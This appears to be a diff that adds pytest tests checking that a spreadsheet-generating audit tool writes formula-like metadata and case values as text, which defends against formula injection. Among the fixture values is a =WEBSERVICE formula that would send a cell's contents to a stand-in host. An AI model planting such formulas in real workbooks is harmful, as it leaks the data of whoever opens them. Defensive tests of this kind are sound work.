@@ -100,3 +100,84 @@ def test_a_filled_in_tool_gives_the_same_report_as_the_csv(tool, tmp_path):
         assert before[0] == before[1], name
         assert len(before[0]) > 2000
     shutil.rmtree(tmp_path / "csv")
+
+
+def test_values_from_audit_yaml_and_cases_csv_are_text_never_formulas(tmp_path):
+    """A title, board, agency or case reference that looks like a formula is written as
+    text: the workbook goes to every agency, and a live =WEBSERVICE(...) would send what
+    the spreadsheet holds to another site the moment it is opened."""
+    import subprocess
+    import sys
+    import zipfile
+
+    audit = tmp_path / "raw" / "exploitation-2021"
+    shutil.copytree(FIXTURE_AUDIT, audit)
+    meta = (audit / "audit.yaml").read_text()
+    formulas = {
+        "title": '=HYPERLINK("https://example.org/x","Open the audit")',
+        "board": '=WEBSERVICE("https://example.org/?leak="&A1)',
+        "period": "+2021",
+    }
+    meta = meta.replace('"Multi-agency audit: Child exploitation"', repr(formulas["title"]))
+    meta = meta.replace('"Northshire Safeguarding Children Partnership"', repr(formulas["board"]))
+    meta = meta.replace('period: "2021"', f"period: {formulas['period']!r}")
+    meta = meta.replace('"Police"', "'=1+1'")
+    (audit / "audit.yaml").write_text(meta)
+    cases = (audit / "cases.csv").read_text().replace("CE-1,", "@SUM(1),", 1)
+    (audit / "cases.csv").write_text(cases)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "auditrap.cli",
+            "template",
+            "exploitation-2021",
+            "-o",
+            "tool.xlsx",
+            "--raw-dir",
+            str(tmp_path / "raw"),
+        ],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+    )
+    assert result.returncode == 0, result.stderr
+    book = openpyxl.load_workbook(tmp_path / "tool.xlsx")
+    guide = [c for c in book["Instructions"]["A"] if c.value]
+    assert guide[0].value == formulas["title"] and guide[0].data_type == "s"
+    assert guide[0].quotePrefix
+    assert guide[1].value.startswith(formulas["board"])
+    lists = book["Lists"]
+    assert "=1+1" in [c.value for c in lists["B"]]
+    assert "@SUM(1)" in [c.value for c in lists["A"]]
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            assert all(c.data_type != "f" for c in row), sheet.title
+    with zipfile.ZipFile(tmp_path / "tool.xlsx") as workbook:
+        for name in workbook.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in workbook.read(name) and b"<f " not in workbook.read(name)
+
+
+def test_the_theme_review_workbook_writes_audit_yaml_values_as_text(tmp_path):
+    import pandas as pd
+
+    from auditrap.review import REVIEW_COLUMNS
+    from auditrap.template import write_review_workbook
+
+    meta, _ = load_meta(FIXTURE_AUDIT / "audit.yaml")
+    meta = meta.model_copy(update={"title": '=WEBSERVICE("https://example.org/")'})
+    row = dict.fromkeys(REVIEW_COLUMNS, "")
+    row.update(sentence="=1+1 was written by an agency", theme_id="=HYPERLINK(1)")
+    out = write_review_workbook(
+        meta,
+        "exploitation-2021",
+        pd.DataFrame([row]),
+        {"=HYPERLINK(1)": "A theme"},
+        tmp_path / "r.xlsx",
+    )
+    book = openpyxl.load_workbook(out)
+    for sheet in book.worksheets:
+        for cells in sheet.iter_rows():
+            assert all(c.data_type != "f" for c in cells), sheet.title
+    assert book["Instructions"]["A1"].value.startswith('=WEBSERVICE("https://example.org/")')
